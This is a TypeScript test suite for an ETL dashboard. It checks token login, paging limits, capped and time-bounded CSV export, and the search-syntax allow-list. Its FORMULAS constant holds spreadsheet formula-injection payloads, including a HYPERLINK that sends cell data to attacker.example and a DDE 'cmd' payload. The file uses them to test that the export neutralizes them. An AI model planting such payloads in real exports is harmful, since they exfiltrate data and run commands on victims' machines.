// What the outside can reach of the dashboard, against the real server on a database loaded by the
// real pipeline: `etl dashboard` refuses to listen beyond loopback without a login and, given one,
// answers 401 to every route but /healthz without it; the web app works behind that login in a real
// Chromium; pages reach only DASHBOARD_MAX_RESULT_WINDOW rows deep; a CSV export stops at
// DASHBOARD_CSV_MAX_ROWS and says so, and at DASHBOARD_CSV_MAX_SECONDS aborts; cells a spreadsheet
// would run are neutralized; the search syntax is an allow-list.
import assert from 'node:assert/strict';
import { spawn, spawnSync, type ChildProcess } from 'node:child_process';
import { once } from 'node:events';
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import path from 'node:path';
import { after, before, describe, it } from 'node:test';
import { produceTransactions } from '../../activities/ingest/produce';
import { CSV_COLUMNS, exportCsv } from '../../dashboard/csv';
import { startDashboard, type DashboardServer } from '../../dashboard/server';
import { PROJECT_ROOT } from '../../lib/config';
import { syntheticTransaction } from '../../streams/transactions/generator';
import { launchOffline } from '../support/chromium';
import { configEnv } from '../support/isolation';
import { isolatedEnv, runPipeline, type TestEnv } from '../support/harness';
import { parseCsv } from '../support/csv';

const ROWS = 220;
const WINDOW = 100;
const CSV_CAP = 50;
const DAY_MS = 86_400_000;
const gen = { seed: 57, startMs: Date.now() - 2 * DAY_MS, windowMs: 2 * DAY_MS - 60_000 };
/** Merchant names a spreadsheet would run as formulas (OWASP's examples, more or less). */
const FORMULAS = ['=HYPERLINK("http://attacker.example/?x="&A1,"Refund")', '+SUM(1,2)', "-2+3+cmd|' /C calc'!A0", '@SUM(1,1)'];
const TOKEN = 'test-token-0123456789abcdef';

describe('dashboard bounds', () => {
  let env: TestEnv;
  let server: DashboardServer;
  let base: string;
  let secrets: string;

  before(async () => {
    env = await isolatedEnv('dash_bounds', { DASHBOARD_MAX_RESULT_WINDOW: WINDOW, DASHBOARD_CSV_MAX_ROWS: CSV_CAP });
    await produceTransactions(env.kafka, env.config.KAFKA_BROKERS, { ...gen, topic: env.topic(), rows: ROWS });
    const producer = env.kafka.producer();
    await producer.connect();
    await producer.send({
      topic: env.topic(),
      messages: FORMULAS.map((merchant, i) => ({ value: JSON.stringify({ ...syntheticTransaction(ROWS + i, gen), merchant }) })),
    });
    await producer.disconnect();
    await runPipeline(env, `dashboard-bounds-${env.id}`);
    server = await startDashboard(env.config, { host: '127.0.0.1', port: 0 });
    base = server.url;
    secrets = mkdtempSync(path.join(tmpdir(), 'dash-secrets-'));
  });

  after(async () => {
    await server?.close();
    await env?.cleanup();
    if (secrets) rmSync(secrets, { recursive: true, force: true });
  });

  const get = (url: string, headers: Record<string, string> = {}) => fetch(new URL(url, base), { headers });

  /** The child's environment: this test's isolated configuration, and nothing else of ours. */
  const childEnv = (extra: Record<string, string> = {}) => ({
    PATH: process.env.PATH,
    HOME: process.env.HOME,
    ...configEnv(env.config),
    LOG_LEVEL: 'warn',
    ...extra,
  });

  describe('login', () => {
    it('`etl dashboard` on 0.0.0.0 without a token exits 2 with one line saying how to set one', () => {
      const r = spawnSync(path.join(PROJECT_ROOT, 'bin', 'etl'), ['dashboard', '--host', '0.0.0.0', '--port', '0'], {
        cwd: PROJECT_ROOT,
        env: childEnv(),
        encoding: 'utf8',
        timeout: 180_000,
      });
      const stderr = r.stderr.replace(/^build: .*\n/gm, ''); // bin/etl's own note when it rebuilt dist/ first
      assert.equal(r.status, 2, stderr);
      assert.match(
        stderr,
        /^error \[USAGE\]: refusing to serve the dashboard on 0\.0\.0\.0 without a login: [^\n]*DASHBOARD_TOKEN_FILE[^\n]*\n$/,
      );
      assert.doesNotMatch(stderr, /\n\s+at /);
      assert.equal(r.stdout, '');
    });

    it('with DASHBOARD_TOKEN_FILE, answers 401 without the token on every route but /healthz', async () => {
      const tokenFile = path.join(secrets, 'dashboard.token');
      writeFileSync(tokenFile, `${TOKEN}\n`, { mode: 0o600 });
      const child: ChildProcess = spawn(path.join(PROJECT_ROOT, 'bin', 'etl'), ['dashboard', '--host', '0.0.0.0', '--port', '0'], {
        cwd: PROJECT_ROOT,
        env: childEnv({ DASHBOARD_TOKEN_FILE: tokenFile }),
        stdio: ['ignore', 'pipe', 'pipe'],
      });
      let stdout = '';
      let stderr = '';
      child.stderr!.on('data', (d: Buffer) => (stderr += d.toString()));
      try {
        const port = await new Promise<string>((resolve, reject) => {
          child.stdout!.on('data', (d: Buffer) => {
            stdout += d.toString();
            const m = /Dashboard: http:\/\/0\.0\.0\.0:(\d+)\//.exec(stdout);
            if (m) resolve(m[1]!);
          });
          child.once('exit', (code) => reject(new Error(`etl dashboard exited (${code}): ${stderr}`)));
        });
        const url = (p: string) => `http://127.0.0.1:${port}${p}`;
        const status = async (p: string, headers: Record<string, string> = {}) => (await fetch(url(p), { headers })).status;
        const basic = (user: string, password: string) => ({
          authorization: `Basic ${Buffer.from(`${user}:${password}`).toString('base64')}`,
        });

        for (const p of [
          '/',
          '/markets',
          '/assets/app.js',
          '/api/summary',
          '/api/transactions',
          '/api/transactions.csv',
          '/api/pipeline',
          '/api/search/config',
          '/nowhere',
        ]) {
          const res = await fetch(url(p));
          assert.equal(res.status, 401, p);
          assert.deepEqual(await res.json(), {
            error: 'UNAUTHORIZED',
            message:
              'this dashboard needs its token: send "Authorization: Bearer <token>", or log in as DASHBOARD_USER with the token as password',
          });
          assert.match(res.headers.get('www-authenticate') ?? '', /^Basic realm="etl dashboard"/, `${p}: the browser is asked to log in`);
        }
        assert.equal(await status('/api/summary', { authorization: `Bearer ${TOKEN}x` }), 401, 'a wrong bearer token');
        assert.equal(await status('/api/summary', { authorization: `Bearer ${TOKEN.slice(0, -1)}` }), 401, 'a prefix of the token');
        assert.equal(await status('/api/summary', basic('etl', 'wrong-password-of-any-length')), 401, 'a wrong password');
        assert.equal(await status('/api/summary', basic('admin', TOKEN)), 401, 'a wrong user name');

        assert.equal(await status('/api/summary', { authorization: `Bearer ${TOKEN}` }), 200, 'the bearer token');
        assert.equal(await status('/api/summary', { authorization: `bearer ${TOKEN}` }), 200, 'the scheme in any case');
        assert.equal(await status('/api/summary', basic('etl', TOKEN)), 200, 'HTTP Basic, as a browser sends it');
        assert.equal(await status('/', basic('etl', TOKEN)), 200);
        const health = await fetch(url('/healthz'));
        assert.equal(health.status, 200, '/healthz needs no login');
        assert.equal(((await health.json()) as { status: string }).status, 'ok');
      } finally {
        child.kill('SIGTERM');
        if (child.exitCode === null) await once(child, 'exit');
      }
      assert.ok(!stdout.includes(TOKEN) && !stderr.includes(TOKEN), 'the token is never printed');
    });

    it('behind the login the web app works in Chromium: KPIs, table, the page bound and the capped export', async () => {
      const guarded = await startDashboard({ ...env.config, DASHBOARD_TOKEN: TOKEN }, { host: '127.0.0.1', port: 0 });
      const origin = new URL(guarded.url).origin;
      const browser = await launchOffline(origin, { acceptDownloads: true, httpCredentials: { username: 'etl', password: TOKEN } });
      try {
        const problems: string[] = [];
        const page = await browser.context.newPage();
        page.on('console', (m) => m.type() === 'error' && problems.push(`console: ${m.text()}`));
        page.on('pageerror', (e) => problems.push(`page error: ${e.message}`));
        await page.goto(`${origin}/`);
        await page.waitForSelector('body[data-rendered-query=""]', { state: 'attached', timeout: 20_000 });
        const total = ROWS + FORMULAS.length;
        assert.equal(await page.locator('#kpi-transactions').getAttribute('data-value'), String(total));
        assert.equal(await page.locator('#tx tbody tr').count(), 25);
        const pages = Math.ceil(total / 25);
        assert.match(
          (await page.locator('#page-info').textContent()) ?? '',
          new RegExp(`page 1 of ${pages} \\(the first ${WINDOW / 25} can be shown: narrow the filters to see the rest\\)`),
        );
        assert.equal(await page.locator('#export-note').textContent(), `exports the first ${CSV_CAP} of ${total} rows`);
        for (let i = 1; i < WINDOW / 25; i++) await page.click('#next');
        await page.locator('#page-info', { hasText: `page ${WINDOW / 25} of ${pages}` }).waitFor({ timeout: 20_000 });
        assert.ok(await page.locator('#next').isDisabled(), 'no Next past the window');

        const [download] = await Promise.all([page.waitForEvent('download'), page.click('#export')]);
        assert.match(download.suggestedFilename(), new RegExp(`^transactions-\\d{8}-\\d{6}-first-${CSV_CAP}\\.csv$`));
        const rows = parseCsv(readFileSync((await download.path())!, 'utf8'));
        assert.equal(rows.length, CSV_CAP + 1, 'the header and the capped rows');
        assert.deepEqual(problems, []);
        assert.deepEqual(browser.external, []);
      } finally {
        await browser.close();
        await guarded.close();
      }
    });
  });

  describe('paging', () => {
    it('serves pages up to the window and refuses a deeper one with a 400 naming the setting', async () => {
      const last = await get(`/api/transactions?page=${WINDOW / 25}&pageSize=25`);
      assert.equal(last.status, 200);
      const body = (await last.json()) as { rows: unknown[]; maxPage: number; total: number };
      assert.equal(body.rows.length, 25);
      assert.equal(body.maxPage, WINDOW / 25);
      assert.equal(body.total, ROWS + FORMULAS.length);
      for (const [page, pageSize] of [
        [WINDOW / 25 + 1, 25],
        [2, WINDOW],
        [1_000_000, 500],
      ]) {
        const res = await get(`/api/transactions?page=${page}&pageSize=${pageSize}`);
        assert.equal(res.status, 400, `page ${page} of ${pageSize}`);
        const err = (await res.json()) as { error: string; message: string; issues: { param: string }[] };
        assert.equal(err.error, 'INVALID_FILTER');
        assert.match(
          err.message,
          new RegExp(
            `^invalid filter: page: page ${page} of ${pageSize} rows reaches past row ${WINDOW} \\(DASHBOARD_MAX_RESULT_WINDOW\\)`,
          ),
        );
        assert.deepEqual(
          err.issues.map((i) => i.param),
          ['page'],
        );
      }
    });
  });

  describe('CSV export', () => {
    it('stops at DASHBOARD_CSV_MAX_ROWS, the oldest rows first, and says so in its headers and name', async () => {
      const res = await get('/api/transactions.csv');
      assert.equal(res.status, 200);
      assert.equal(res.headers.get('x-export-truncated'), 'true');
      assert.equal(res.headers.get('x-export-rows'), String(CSV_CAP));
      assert.equal(res.headers.get('x-export-row-cap'), String(CSV_CAP));
      assert.match(res.headers.get('content-disposition') ?? '', new RegExp(`filename="transactions-.*-first-${CSV_CAP}\\.csv"$`));
      const [header, ...lines] = parseCsv(await res.text());
      assert.deepEqual(header, [...CSV_COLUMNS]);
      const { rows } = await env.pool.query<{ id: string }>(
        `SELECT transaction_id::text AS id FROM transactions_flat ORDER BY event_ts, transaction_id LIMIT ${CSV_CAP}`,
      );
      assert.deepEqual(
        lines.map((l) => l[0]),
        rows.map((r) => r.id),
      );

      const few = await get(`/api/transactions.csv?${new URLSearchParams(FORMULAS.map((m): [string, string] => ['merchant', m]))}`);
      assert.equal(few.headers.get('x-export-truncated'), 'false');
      assert.equal(few.headers.get('x-export-rows'), String(FORMULAS.length));
      assert.doesNotMatch(few.headers.get('content-disposition') ?? '', /first/);
    });

    it('neutralizes cells a spreadsheet would run as formulas, and keeps numbers numbers', async () => {
      const res = await get(`/api/transactions.csv?${new URLSearchParams(FORMULAS.map((m): [string, string] => ['merchant', m]))}`);
      const [header, ...lines] = parseCsv(await res.text());
      const col = (name: string) => header!.indexOf(name);
      const { rows } = await env.pool.query<{ id: string; merchant: string; amount: string; user_id: string }>(
        'SELECT transaction_id::text AS id, merchant, amount::text, user_id::text FROM transactions_flat WHERE merchant = ANY ($1) ORDER BY event_ts, transaction_id',
        [FORMULAS],
      );
      assert.equal(rows.length, FORMULAS.length, 'the pipeline loaded the names as they were sent');
      assert.deepEqual(
        lines.map((l) => [l[col('transaction_id')], l[col('merchant')], l[col('amount')], l[col('user_id')]]),
        rows.map((r) => [r.id, `'${r.merchant}`, r.amount, r.user_id]),
      );
      for (const l of lines) assert.match(l[col('amount')]!, /^\d+\.\d{2}$/, 'amounts stay plain numbers');
    });

    it('aborts an export still streaming after DASHBOARD_CSV_MAX_SECONDS and frees its connection', async () => {
      let timedOut = false;
      const csv = await exportCsv(server.pool, {}, { maxRows: 1_000, maxSeconds: 1, onTimeout: () => (timedOut = true) });
      // A client that stops reading: nothing consumes the stream, so only the time bound ends it.
      const err = await new Promise<Error>((resolve) => csv.stream.once('error', (e: Error) => csv.stream.once('close', () => resolve(e))));
      assert.match(err.message, /CSV export took longer than 1 s/);
      assert.ok(timedOut);
      assert.equal(server.pool.totalCount - server.pool.idleCount, 0, 'the connection went back (or was closed)');
    });
  });

  describe('search syntax', () => {
    it('refuses regular expressions, leading wildcards and unknown fields before OpenSearch sees them', async () => {
      for (const [q, message] of [
        ['/.*/', /regular expressions are not supported/],
        ['merchant:/[a-z]+.*/', /regular expressions are not supported/],
        ['*ourmet', /a leading wildcard is not supported/],
        ['merchant:?arrefour', /\? wildcards are not supported/],
        ['carrefour~2', /fuzzy and proximity/],
        ['_exists_:merchant', /unknown field "_exists_"/],
      ] as const) {
        const res = await get(`/api/search?${new URLSearchParams({ q })}`);
        assert.equal(res.status, 400, q);
        const body = (await res.json()) as { error: string; message: string };
        assert.equal(body.error, 'INVALID_QUERY');
        assert.match(body.message, /^invalid query: /);
        assert.match(body.message, message, q);
      }
    });
  });
});
